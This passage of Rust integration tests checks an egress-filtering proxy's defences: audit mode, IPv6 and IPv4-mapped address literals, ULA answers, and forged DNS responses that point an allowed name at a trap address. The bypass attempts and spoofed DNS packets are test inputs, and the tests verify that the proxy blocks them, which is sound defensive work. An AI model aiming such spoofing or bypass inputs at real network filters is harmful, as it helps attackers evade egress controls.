    let socket = dir.path().join("proxy.sock");
    let audit = Arc::new(MemorySink::default());
    let builder = Proxy::builder()
        .http_listen(EXPLICIT)
        .upstream_dns(vec![bed.dns_addr()])
        .audit(audit.clone())
        .control_socket(socket.clone());
    let proxy = bed.host().run(builder.start()).unwrap();
    let request = |line: String| {
        let socket = socket.clone();
        bed.host().run(async move {
            let mut stream = tokio::net::UnixStream::connect(&socket).await.unwrap();
            stream.write_all(line.as_bytes()).await.unwrap();
            stream.write_all(b"\n").await.unwrap();
            let mut reply = vec![0u8; 1024];
            let n = stream.read(&mut reply).await.unwrap();
            String::from_utf8_lossy(&reply[..n]).into_owned()
        })
    };
    let get = || {
        bed.runner().run(exchange(
            "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n".into(),
        ))
    };
    // Before registration the runner gets nothing.
    assert_eq!(get(), None);
    let reply = request(format!(
        r#"{{"op":"set_client","ip":"{RUNNER_IP}","runner":"r-9","job":"j-9","egress":{{"allow":[{{"host":"allowed.test"}}]}}}}"#
    ));
    assert_eq!(reply.trim(), r#"{"ok":true}"#);
    assert_eq!(get().map(|r| r.0), Some(200));
    let reply = request(format!(r#"{{"op":"remove_client","ip":"{RUNNER_IP}"}}"#));
    assert_eq!(reply.trim(), r#"{"ok":true}"#);
    assert_eq!(get(), None);
    assert!(audit
        .events()
        .iter()
        .any(|e| e.runner.as_deref() == Some("r-9") && e.verdict == Verdict::Allow));
    drop(proxy);
}

#[test]
fn audit_mode_allows_and_records_what_it_would_deny() {
    require_privilege!();
    let w = world();
    let audit_policy = POLICY.replace("mode: enforce", "mode: audit");
    w.set_runner_policy(&audit_policy);
    let got = w.runner(exchange(
        "GET http://evil.test/audited HTTP/1.1\r\nHost: evil.test\r\n\r\n".into(),
    ));
    // The trap is no HTTP server: the connection reached it and was closed, so the
    // proxy answers 502. What matters is that it was let through, and recorded.
    assert_ne!(got.map(|r| r.0), Some(403));
    let e = w.wait_event("audit allow", |e| e.host.as_deref() == Some("evil.test"));
    assert_eq!(e.verdict, Verdict::Allow);
    assert_eq!(
        e.reason
            .as_deref()
            .map(|r| r.starts_with("host not allowed")),
        Some(true)
    );
    assert!(w.bed.trap_hits().iter().any(|h| h.local.port() == 80));
}

#[test]
fn ipv6_destinations_are_served_and_guarded() {
    require_privilege!();
    let w = world();
    let got = w.runner(exchange(
        "GET http://v6.allowed.test/six HTTP/1.1\r\nHost: v6.allowed.test\r\n\r\n".into(),
    ));
    assert_eq!(got, Some((200, format!("hello from {WEB6_IP}\n"))));
    let e = w.wait_event("v6 allow", |e| {
        e.verdict == Verdict::Allow && e.kind == Kind::Http
    });
    assert_eq!(e.ip, Some(IpAddr::V6(WEB6_IP)));
    let body = https_via_connect(&w, "v6.allowed.test");
    assert!(body.contains(&format!("hello from {WEB6_IP}")), "{body}");
    for (target, reason) in [
        ("[2001:db8:113::10]:443", "address literal not allowed"),
        ("[2001:DB8:113:0::10]:80", "address literal not allowed"),
        ("evil6.test:443", "host not allowed"),
        ("ula.allowed.test:443", "internal address"),
        ("[::ffff:203.0.113.10]:443", "address literal not allowed"),
    ] {
        let got = w.runner(exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n")));
        assert_eq!(got.map(|r| r.0), Some(403), "{target}");
        w.deny_event(target, |e| e.reason.as_deref() == Some(reason));
    }
    let reply = w
        .runner(udp_dns(dns_query(5, "v6.allowed.test.", RecordType::AAAA)))
        .unwrap();
    assert_eq!(answer_ips(&reply), vec![IpAddr::V6(WEB6_IP)]);
    let reply = w
        .runner(udp_dns(dns_query(6, "ula.allowed.test.", RecordType::AAAA)))
        .unwrap();
    assert!(answer_ips(&reply).is_empty());
    w.deny_event("ula answer", |e| e.ip == Some("fd00::1".parse().unwrap()));
    // An allowed name whose AAAA is the IPv4-mapped form of a trap (DESIGN.md 6: forms
    // that embed IPv4 are refused, whatever address they carry): no answer, no dial.
    let mapped: IpAddr = "::ffff:203.0.113.10".parse().unwrap();
    w.bed.set_name("mapped.allowed.test", vec![mapped]);
    let reply = w
        .runner(udp_dns(dns_query(
            7,
            "mapped.allowed.test.",
            RecordType::AAAA,
        )))
        .unwrap();
    assert!(answer_ips(&reply).is_empty(), "{reply:?}");
    w.deny_event("mapped answer", |e| e.ip == Some(mapped));
    let got = w.runner(exchange(
        "CONNECT mapped.allowed.test:443 HTTP/1.1\r\n\r\n".into(),
    ));
    assert_eq!(got.map(|r| r.0), Some(403));
    w.deny_event("mapped dial", |e| {
        e.host.as_deref() == Some("mapped.allowed.test")
            && e.reason.as_deref() == Some("internal address")
    });
    // An allowed SNI toward the IPv6 trap, through the transparent listener.
    let table = w.origdst.clone();
    let closed_early = w.runner(async move {
        let original = SocketAddr::new(IpAddr::V6(TRAP6_IP), 443);
        let mut stream = transparent(TLS, table, original).await;
        let hello = egress_proxy::tls::synthetic_client_hello(&["allowed.test"], 16_384);
        stream.write_all(&hello).await.unwrap();
        closed(&mut stream).await
    });
    assert!(closed_early);
    w.deny_event("v6 SNI toward trap", |e| e.ip == Some(IpAddr::V6(TRAP6_IP)));
    std::thread::sleep(Duration::from_millis(100));
    assert!(w.bed.trap_hits().is_empty(), "{:?}", w.bed.trap_hits());
}

#[test]
fn forged_dns_answers_teach_the_proxy_nothing() {
    require_privilege!();
    let w = world();
    // Forged responses claiming allowed.test lives at the trap, sent to the filter over
    // UDP and TCP: the filter drops them, and the proxy, which resolves names only
    // through its upstream, keeps dialling the real address.
    let mut forged = Message::new();
    forged
        .set_id(77)
        .set_message_type(MessageType::Response)
        .add_query(Query::query(
            Name::from_ascii("allowed.test.").unwrap(),
            RecordType::A,
        ))
        .add_answer(hickory_proto::rr::Record::from_rdata(
            Name::from_ascii("allowed.test.").unwrap(),
            3600,
            RData::A(hickory_proto::rr::rdata::A(TRAP_IPS[0])),
        ));
    let wire = forged.to_vec().unwrap();
    let udp_wire = wire.clone();
    let replies = w.runner(async move {
        let socket = UdpSocket::bind((RUNNER_IP, 0)).await.unwrap();
        for _ in 0..20 {
            socket.send_to(&udp_wire, DNS).await.unwrap();
        }
        let mut buf = [0u8; 512];
        let mut replies = 0;
        while tokio::time::timeout(Duration::from_millis(300), socket.recv_from(&mut buf))
            .await
            .is_ok()
        {
            replies += 1;
        }
        replies
    });
    assert_eq!(replies, 0);
    let tcp_wire = wire.clone();
    w.runner(async move {
        let mut stream = netbed::connect(DNS).await.unwrap();
        let mut framed = (tcp_wire.len() as u16).to_be_bytes().to_vec();
        framed.extend_from_slice(&tcp_wire);
        stream.write_all(&framed).await.unwrap();
        tokio::time::sleep(Duration::from_millis(100)).await;
    });
    w.wait_events(21, |e| {
        e.reason.as_deref() == Some("DNS response sent to the filter")
    });
    let got = w.runner(exchange(
        "GET http://allowed.test/after-forgery HTTP/1.1\r\nHost: allowed.test\r\n\r\n".into(),
    ));
    assert_eq!(got, Some((200, format!("hello from {WEB_IP}\n"))));
    let reply = w
        .runner(udp_dns(dns_query(8, "allowed.test.", RecordType::A)))
        .unwrap();
    assert_eq!(answer_ips(&reply), vec![IpAddr::V4(WEB_IP)]);
    assert!(w.bed.trap_hits().is_empty(), "{:?}", w.bed.trap_hits());
    assert_eq!(
        w.events()
            .iter()
            .filter(|e| e.reason.as_deref() == Some("DNS response sent to the filter"))
            .count(),
        21
    );
}

#[test]
fn dropping_the_proxy_closes_open_tunnels() {
    require_privilege!();
    let mut w = world();
    let ca = w.bed.ca_der().to_vec();
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    let (go_tx, go_rx) = tokio::sync::oneshot::channel::<()>();
    let (done_tx, done_rx) = std::sync::mpsc::channel();
    w.bed.runner().spawn(async move {
        let mut stream = netbed::connect(EXPLICIT).await.unwrap();
        stream
            .write_all(b"CONNECT api.allowed.test:443 HTTP/1.1\r\n\r\n")
            .await
            .unwrap();
        assert_eq!(read_response(&mut stream).await.map(|r| r.0), Some(200));
        let name = rustls::pki_types::ServerName::try_from("api.allowed.test").unwrap();
        let mut tls = tls_connector(&ca).connect(name, stream).await.unwrap();
        ready_tx.send(()).unwrap();
        let _ = go_rx.await;
        let mut buf = [0u8; 64];
        let closed = matches!(
            tokio::time::timeout(Duration::from_secs(5), tls.read(&mut buf)).await,
            Ok(Ok(0)) | Ok(Err(_))
        );
        done_tx.send(closed).unwrap();
    });
    ready_rx
        .recv_timeout(Duration::from_secs(10))
        .expect("tunnel established");
    drop(w.proxy.take());
    go_tx.send(()).unwrap();
    let closed = done_rx.recv_timeout(Duration::from_secs(10)).unwrap();
    assert!(closed, "the tunnel outlived the proxy");
}
